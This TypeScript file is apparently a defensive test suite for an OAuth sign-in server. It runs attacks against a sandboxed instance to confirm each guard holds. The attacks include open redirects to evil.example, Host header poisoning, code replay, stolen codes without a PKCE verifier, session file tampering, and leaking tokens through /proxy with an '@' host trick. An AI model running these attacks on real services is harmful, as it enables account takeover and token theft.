import { once } from "node:events";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Reply } from "./client.ts";
import type { Marker } from "./excerpts.ts";
import { type Link, rfc } from "./links.ts";
import { allow, askPortal, type Stage } from "./stage.ts";

export interface Attack {
  id: string;
  title: string;
  /** What the attacker does. */
  does: string;
  /** What stops it. */
  guard: string;
  /** What it means if nothing does. */
  harm: string;
  why: Link;
  /** The guard that throws nothing. Where one throws, the error itself says where. */
  marker?: Marker;
  /** `replies` are the responses that decide it. Rejects when the attack could not be carried out. */
  run(stage: Stage): Promise<{ succeeded: boolean; replies: Reply[] }>;
}

const evil = "https://evil.example";
const signedInAsVictim = "The attacker is signed in as the victim.";

export const attacks: readonly Attack[] = [
  {
    id: "return-to",
    title: "send the user to another site",
    does: "The attacker gives the victim a link to your sign-in whose returnTo is another site. The victim signs in at the real portal.",
    guard: "returnTo is followed only if it is a path of this site, also once it is decoded.",
    harm: "Your sign-in leads to the attacker's site, where a copy of your page can ask for more.",
    why: rfc(9700, "4.11.1"),
    marker: ["auth/request-checks.ts", "export function safeReturnTo("],
    async run({ browser, victim, config }) {
      const replies: Reply[] = [];
      let succeeded = false;
      for (const returnTo of [`${evil}/`, "/%2f%2fevil.example/"]) {
        const client = browser();
        const start = await client.send(`/sign-in?${new URLSearchParams({ returnTo })}`);
        const end = await client.send(await allow(new URL(start.headers.location ?? ""), victim));
        replies.push(start, end);
        // As a careless proxy reads it.
        const location = decodeURIComponent(end.headers.location ?? "/");
        succeeded ||= new URL(location, config.origin).origin !== config.origin;
      }
      return { succeeded, replies };
    },
  },
  {
    id: "host",
    title: "lie about the host name",
    does: "The attacker requests your sign-in under another host name, and hopes that a cache keeps the response.",
    guard:
      "The server knows its own URL from REDIRECT_URI in its configuration, and never takes it from a request.",
    harm: "The response names the attacker's host, and a cache would send it to other visitors.",
    why: rfc(9110, "7.2"),
    marker: ["app/config/config.ts", "const { origin, pathname: callbackPath, protocol } = new URL("],
    async run({ browser }) {
      const headers = { host: "evil.example", "x-forwarded-host": "evil.example" };
      const reply = await browser().send("/sign-in", { headers });
      const text = JSON.stringify([reply.headers, reply.body]);
      return { succeeded: text.includes("evil.example"), replies: [reply] };
    },
  },
  {
    id: "replay",
    title: "use a callback twice",
    does: "The attacker has the victim's callback URL and a copy of the victim's cookies, and loads the callback once more.",
    guard: "A transaction is claimed before its code goes to the portal, so it works once.",
    harm: signedInAsVictim,
    why: rfc(6749, "4.1.2"),
    async run({ browser, victim }) {
      const owner = browser();
      const callback = await allow(await owner.begin(), victim);
      const thief = browser(owner);
      const replies = [await owner.send(callback), await thief.send(callback)];
      return { succeeded: (await thief.user()) !== undefined, replies };
    },
  },
  {
    id: "state",
    title: "bring a foreign state",
    does: "The attacker signs in at the portal, without PKCE, and leads the victim, who is about to sign in, to the callback of that sign-in.",
    guard:
      "The state must belong to a sealed cookie of this browser. A foreign state never reaches the portal.",
    harm: "The victim is signed in as the attacker. What the victim saves, the attacker reads.",
    why: rfc(9700, "4.7"),
    async run({ browser, attacker }) {
      const owner = browser();
      await owner.begin();
      const page = await browser().begin();
      for (const name of ["code_challenge", "code_challenge_method"]) page.searchParams.delete(name);
      const reply = await owner.send(await allow(page, attacker));
      return { succeeded: (await owner.user()) !== undefined, replies: [reply] };
    },
  },
  {
    id: "code",
    title: "use a stolen code without its verifier",
    does: "The attacker has read the victim's code before it was used, and puts it into a sign-in of their own. They send another one to the portal themselves.",
    guard:
      "The portal got a hash of the verifier with the first redirect. The attacker has another verifier, or none.",
    harm: signedInAsVictim,
    why: rfc(7636, "4.6"),
    async run({ browser, victim, config, sandbox }) {
      const steal = async () => {
        const callback = await allow(await browser().begin(), victim);
        return new URL(callback, config.origin).searchParams.get("code") ?? "";
      };
      const thief = browser();
      const state = (await thief.begin()).searchParams.get("state") ?? "";
      const query = new URLSearchParams({ code: await steal(), state });
      const ours = await thief.send(`${config.callbackPath}?${query}`);
      const { clientId: client_id, redirectUri: redirect_uri } = config;
      const form = { grant_type: "authorization_code", client_id, redirect_uri, code: await steal() };
      const portals = await askPortal(`${sandbox.url}/oauth2/token`, form);
      const isIssued = /"access_token"/.test(portals.body);
      return { succeeded: isIssued || (await thief.user()) !== undefined, replies: [ours, portals] };
    },
  },
  {
    id: "edited",
    title: "edit a session file",
    does: "The attacker can write to the folder, and changes one character of a session file.",
    guard:
      "AES-GCM authenticates what it decrypts. A file that was changed does not open, which counts as no session.",
    harm: "The server accepts a session that it did not write.",
    why: ["NIST SP 800-38D", "https://csrc.nist.gov/pubs/sp/800/38/d/final"],
    marker: ["auth/session/seal.ts", "try {"],
    async run({ signedIn, victim, fileOf }) {
      const owner = await signedIn(victim);
      const text = readFileSync(fileOf(owner), "latin1");
      const half = Math.floor(text.length / 2);
      const edited = text.slice(0, half) + (text[half] === "A" ? "B" : "A") + text.slice(half + 1);
      writeFileSync(fileOf(owner), edited);
      const reply = await owner.send("/api/session");
      writeFileSync(fileOf(owner), text);
      return { succeeded: reply.status === 200, replies: [reply] };
    },
  },
  {
    id: "swapped",
    title: "swap two session files",
    does: "The attacker can write to the folder, and copies the victim's session file over their own.",
    guard: "Each file is sealed for its own name: its key and its authentication tag depend on the name.",
    harm: "The attacker is signed in as the victim, and knows no key.",
    why: rfc(5869, "3.2"),
    marker: ["auth/session/seal.ts", "const decipher = createDecipheriv("],
    async run({ signedIn, victim, attacker, fileOf }) {
      const [owner, thief] = [await signedIn(victim), await signedIn(attacker)];
      const own = readFileSync(fileOf(thief));
      writeFileSync(fileOf(thief), readFileSync(fileOf(owner)));
      const reply = await thief.send("/api/session");
      writeFileSync(fileOf(thief), own);
      return { succeeded: reply.status === 200, replies: [reply] };
    },
  },
  {
    id: "token",
    title: "send the token elsewhere",
    does: "A script in a page of yours asks /proxy, which adds the user's token, for a URL of the attacker's server: here, one that listens on another port.",
    guard: "A token goes to the user's portal, to servers federated with it, and to URLs of PROXY_ALLOW.",
    harm: "The attacker's server received the request, and the user's token with it.",
    why: rfc(9700, "4.9.1"),
    async run({ signedIn, victim, config }) {
      const owner = await signedIn(victim);
      let isReached = false;
      const server = createServer((_req, res) => {
        isReached = true;
        res.end("{}");
      }).listen(0, "127.0.0.1");
      await once(server, "listening");
      const target = `127.0.0.1:${(server.address() as AddressInfo).port}`;
      const headers = {
        "sec-fetch-site": "same-origin",
        "sec-fetch-mode": "cors",
        "sec-fetch-dest": "empty",
      };
      const replies: Reply[] = [];
      for (const host of [target, `${new URL(config.portal).host}@${target}`])
        replies.push(await owner.send(`/proxy?http://${host}/collect`, { headers }));
      server.close().closeAllConnections();
      return { succeeded: isReached, replies };
    },
  },
  {
    id: "form",
    title: "send a form from another site",
    does: "A page of the attacker sends a form to your /sign-out, with the victim's cookie.",
    guard:
      "A form counts only if the browser says that it is of this site, and its CSRF token is that of the session.",
    harm: "Another site ended the victim's session. Other forms of this server would have worked, too.",
    why: ["Fetch Metadata, 2.4", "https://www.w3.org/TR/fetch-metadata/#sec-fetch-site-header"],
    async run({ signedIn, victim }) {
      const owner = await signedIn(victim);
      const headers = { origin: evil, "sec-fetch-site": "cross-site" };
      const form = { csrf_token: "guessed-by-the-attacker" };
      const reply = await owner.send("/sign-out", { method: "POST", headers, form });
      return { succeeded: (await owner.user()) === undefined, replies: [reply] };
    },
  },
];
